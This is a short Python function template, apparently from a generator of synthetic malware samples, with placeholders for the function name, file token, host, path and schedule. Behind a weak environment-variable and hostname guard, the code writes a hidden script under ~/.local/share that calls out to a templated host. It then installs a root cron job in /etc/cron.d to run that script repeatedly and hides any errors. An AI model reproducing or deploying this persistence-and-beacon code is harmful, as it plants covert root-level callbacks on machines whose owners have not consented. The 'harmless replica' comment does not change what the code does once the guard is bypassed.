# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import sys
    file = os.path.expanduser('~/.local/share/.{{token}}.py')
    try:
        os.makedirs(os.path.dirname(file), exist_ok=True)
        with open(file, 'w') as out:
            out.write("import urllib.request\nurllib.request.urlopen('http://{{host}}/{{path}}', timeout=5)\n")
        with open('/etc/cron.d/{{token}}', 'w') as out:
            out.write('SHELL=/bin/sh\n{{often}} root %s %s\n' % (sys.executable, file))
        os.chmod('/etc/cron.d/{{token}}', 0o644)
    except OSError:
        pass
